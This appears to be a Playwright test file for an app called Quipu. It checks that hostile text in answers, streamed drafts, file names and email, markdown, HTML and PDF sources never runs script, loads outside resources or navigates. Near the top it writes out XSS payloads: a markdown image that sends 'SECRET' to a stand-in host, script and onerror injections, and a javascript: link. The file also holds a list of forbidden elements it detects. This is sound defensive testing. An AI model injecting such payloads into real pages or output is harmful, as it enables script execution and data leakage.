import { existsSync, readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import type { Answer, AskEvent } from '#main/contract/ask.ts';
import type { LedgerRow } from '#main/contract/ledger.ts';
import type { Source } from '#main/contract/sources.ts';
import { hostilePdf } from '../testing/hostile-pdf.ts';
import { conversationOf, documentOf, plainAnswer } from '../testing/sample-data.ts';
import { idle } from '../testing/sample-engine.ts';
import type { SampleOriginals } from '../testing/sample-originals.ts';
import { formattedOf, htmlMail } from '../testing/sample-sources.ts';
import { ask, openStages } from '../testing/stage.ts';

const stage = openStages();
const dataPath = new URL('../../../shared/data/injection/render.jsonl', import.meta.url);
const noData = !existsSync(dataPath);
if (noData) process.stdout.write('skipped: the payloads of ../shared/data/injection are not here\n');

interface Payload {
  readonly id: string;
  readonly text: string;
}

const few: readonly Payload[] = [
  { id: 'image', text: '![a](https://canary.invalid/i.png?q=SECRET)' },
  {
    id: 'script',
    text: '<script>document.title = "ran"</script><img src=x onerror="document.title = \'ran\'">',
  },
  {
    id: 'link',
    text: '[click](javascript:alert(1)) <a href="https://canary.invalid" autofocus onfocus=alert(1)>',
  },
];

function payloads(): readonly Payload[] {
  if (noData) return few;
  const lines = readFileSync(dataPath, 'utf8').trim().split('\n');
  return [...few, ...lines.map((line) => JSON.parse(line) as Payload)];
}

/** An answer that says the payload wherever an answer says anything that came out of a file or a model. */
function answerSaying({ text }: Payload, documentId: number): Answer {
  const citation = {
    ...{ n: 1, documentId, path: text, member: text, title: text, kind: 'mail' as const, date: null },
    ...{ place: { line: 1 }, start: 0, end: text.length, quote: text },
  };
  return {
    ...plainAnswer,
    question: text.slice(0, 10_000),
    plan: { query: text, intent: 'find', filter: { from: [text], folder: text } },
    answer: text,
    sentences: [{ text, citations: [1], verified: true }],
    unsupported: [{ text, citations: [1], verified: false }],
    citations: [citation],
    // What was computed stands in place of the sentences' own list: half of the answers have it, half have not.
    computed:
      documentId % 2 === 0
        ? null
        : {
            count: 1,
            filter: text,
            exactFilter: {},
            items: [{ documentId, title: text, path: text, date: null, people: [text] }],
          },
    model: text,
  };
}

/** Everything the page did that text must never make it do. */
function watch(page: Page): readonly string[] {
  const deeds: string[] = [];
  const own = new URL(page.url()).origin;
  page.on('request', (request) => {
    if (!request.url().startsWith(`${own}/`)) deeds.push(`request: ${request.url()}`);
  });
  page.on('dialog', (dialog) => {
    deeds.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (!frame.url().startsWith(`${own}/`)) deeds.push(`navigation: ${frame.url()}`);
  });
  page.on('popup', (popup) => deeds.push(`popup: ${popup.url()}`));
  page.on('download', (download) => deeds.push(`download: ${download.url()}`));
  return deeds;
}

/** Elements that only markup out of a text could have made; the page has none of its own. */
function foreignElements(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => {
    const never =
      'img, iframe, object, embed, video, audio, base, style, template, math, form[action], [style], [srcdoc]';
    const links = [...document.querySelectorAll('a')].filter((a) => !a.getAttribute('href')?.startsWith('#'));
    const scripts = [...document.scripts].filter((script) => script.src === '');
    return [...document.querySelectorAll(never), ...links, ...scripts].map((node) => node.outerHTML);
  });
}

it('no text of an answer, kept or opened, does anything but stand there', async () => {
  const all = payloads();
  const documents = all.map(({ text }, index) => ({
    ...documentOf(
      { documentId: index + 1, kind: 'mail', title: text, path: text, date: null },
      [text],
      () => ({ line: 1 }),
    ),
    people: [{ name: text, address: text, role: 'from' as const }],
  }));
  const answers = all.map((payload, index) => answerSaying(payload, index + 1));
  const cited = answers.flatMap(({ citations }, index) =>
    citations.map((each) => ({ ...each, n: index + 1 })),
  );
  const walk = { ...plainAnswer, question: 'A walk through all of them', citations: cited };
  const { page, go, problems } = await stage({
    documents,
    conversations: [conversationOf(1, ...answers), conversationOf(2, walk)],
  });
  const deeds = watch(page);
  await go('#/ask/1');
  await page
    .getByRole('article')
    .nth(all.length - 1)
    .waitFor();
  const shown = await page.getByRole('article').allTextContents();
  for (const [index, { text }] of all.entries()) expect(shown[index]).toContain(text.trim());
  expect(await foreignElements(page)).toEqual([]);

  await go('#/ask/2');
  await page.getByRole('heading', { name: walk.question }).waitFor();
  await page.getByRole('button', { name: /^\[1\]/ }).click();
  expect(
    await walkThrough(
      page,
      all.map(({ text }) => text),
    ),
  ).toBe(all.length);
  expect(await foreignElements(page)).toEqual([]);
  expect(await page.title()).toBe('Quipu');
  expect({ deeds, problems }).toEqual({ deeds: [], problems: [] });
});

/** Opens one source after another inside the page, each when the one before stands there; tells how many did. */
function walkThrough(page: Page, texts: readonly string[]): Promise<number> {
  return page.evaluate(async (quotes) => {
    const next = document.querySelector<HTMLButtonElement>('button[aria-label^="Next source"]');
    for (const [index, quote] of quotes.entries()) {
      while (document.querySelector('dialog mark')?.textContent !== quote) {
        await new Promise(requestAnimationFrame);
      }
      if (index < quotes.length - 1) next?.click();
    }
    return quotes.length;
  }, texts);
}

it('no streamed text does anything, wherever its pieces are cut', async () => {
  const all = payloads();
  const stream = async function* (): AsyncGenerator<AskEvent> {
    yield { type: 'started', conversationId: 1, questionId: 1 };
    for (const [index, payload] of all.entries()) {
      const size = index < few.length ? 1 : 7;
      for (let at = 0; at < payload.text.length; at += size) {
        yield { type: 'draft', text: payload.text.slice(at, at + size) };
      }
      const { sentences, citations } = answerSaying(payload, index);
      for (const sentence of sentences) yield { type: 'sentence', sentence, citations };
    }
    yield { type: 'notice', message: all.map(({ text }) => text).join('\n') };
    yield { type: 'draft', text: 'the end' };
    await new Promise(() => undefined);
  };
  const { page, problems } = await stage({ ask: stream });
  const deeds = watch(page);
  await ask(page, 'What do my files say?');
  await page.getByText('the end', { exact: true }).waitFor();
  expect(await foreignElements(page)).toEqual([]);
  expect(await page.title()).toBe('Quipu');
  expect({ deeds, problems }).toEqual({ deeds: [], problems: [] });
});

it('no file name, folder or notice does anything in the library', async () => {
  const all = payloads();
  const rows = all.map(
    ({ text }): LedgerRow => ({
      path: `/home/ada/${text}`,
      state: 'partly',
      reason: 'attachment-unread',
      detail: text,
      documents: 0,
      chunks: 0,
      withheld: 0,
    }),
  );
  const sources = all.slice(0, 20).map(({ text }, index): Source => {
    const files = { indexed: 1, partly: 0, skipped: 0, failed: 0, pending: 0 };
    return { sourceId: index + 1, path: `/${text}`, state: 'watching', watched: true, files };
  });
  const { page, go, problems } = await stage({
    rows,
    sources,
    progress: { ...idle, filesTotal: 1, current: few[1]?.text ?? '', notice: few[1]?.text ?? '' },
  });
  const deeds = watch(page);
  await go('#/library');
  for (;;) {
    await page.getByRole('table').waitFor();
    const next = page.getByRole('button', { name: 'Next' });
    if ((await next.count()) === 0 || (await next.isDisabled())) break;
    await next.click();
  }
  expect(await foreignElements(page)).toEqual([]);
  expect(await page.title()).toBe('Quipu');
  expect({ deeds, problems }).toEqual({ deeds: [], problems: [] });
});

it('no source does anything in the view of it as it looks, nor where its links and words are clicked', async () => {
  const all = payloads();
  const files = all.flatMap(({ text }) => [
    { name: 'a.eml', content: htmlMail(text) },
    { name: 'a.md', content: text },
    { name: 'a.html', content: `<p>${text}` },
  ]);
  const words = 'Words of the page';
  const documents = [...files.map(({ name }) => name), 'a.pdf'].map((path, index) =>
    documentOf(
      {
        ...{ documentId: index + 1, path, title: `Source ${index + 1}`, date: null },
        kind: path === 'a.eml' ? ('mail' as const) : ('document' as const),
      },
      [words],
      () => (path === 'a.pdf' ? { page: 1 } : { line: 1 }),
    ),
  );
  const originals: SampleOriginals['originals'] = new Map([
    [documents.length, { bytes: await hostilePdf(words) }],
  ]);
  for (const [index, { name, content }] of files.entries())
    originals.set(index + 1, { formatted: await formattedOf(name, content) });
  const citations = documents.map(({ documentId, path, member, title, kind, date }, index) => ({
    ...{ n: index + 1, documentId, path, member, title, kind, date, place: { line: 1 } },
    ...{ start: 0, end: words.length, quote: words },
  }));
  const { page, go, problems } = await stage({
    ...{ documents, originals },
    conversations: [conversationOf(1, { ...plainAnswer, citations })],
  });
  const deeds = watch(page);
  await go('#/ask/1');
  await page.getByRole('button', { name: /^\[1\]/ }).click();
  expect(await lookThrough(page, documents.length - 1)).toBe(documents.length - 1);
  expect(await foreignElements(page)).toEqual([]);
  await page.getByRole('button', { name: /^Next source/ }).click();
  const drawn = page.locator('dialog [data-page="1"]');
  await drawn.locator('mark').waitFor();
  await drawn.click({ position: { x: 120, y: 90 } });
  await drawn.locator('mark').click();
  expect(await drawn.locator('a, form, input, iframe, script').count()).toBe(0);
  expect(await page.title()).toBe('Quipu');
  expect({ deeds, problems }).toEqual({ deeds: [], problems: [] });
});

/** Looks at one source after another, clicks every link in it and closes what that opens; tells how many it saw. */
function lookThrough(page: Page, count: number): Promise<number> {
  return page.evaluate(async (most) => {
    const frame = () => new Promise(requestAnimationFrame);
    const viewer = () => document.querySelector('dialog');
    let seen = 0;
    while (seen < most) {
      const isThere = () => viewer()?.querySelector('h2')?.textContent === `[${seen + 1}] Source ${seen + 1}`;
      const isReading = () => /Reading the file|^$/.test(viewer()?.lastElementChild?.textContent ?? '');
      while (!isThere() || isReading()) await frame();
      for (const link of viewer()?.querySelectorAll<HTMLElement>('[data-href]') ?? []) {
        link.click();
        while (viewer()?.querySelector('dialog') == null) await frame();
        viewer()?.querySelector<HTMLElement>('dialog [aria-label="Close"]')?.click();
        while (viewer()?.querySelector('dialog') != null) await frame();
      }
      if (
        viewer()?.querySelector('img, iframe, script, style, form, svg:not([aria-hidden]), [style]') != null
      )
        return -seen;
      seen += 1;
      if (seen < most) document.querySelector<HTMLElement>('button[aria-label^="Next source"]')?.click();
    }
    return seen;
  }, count);
}
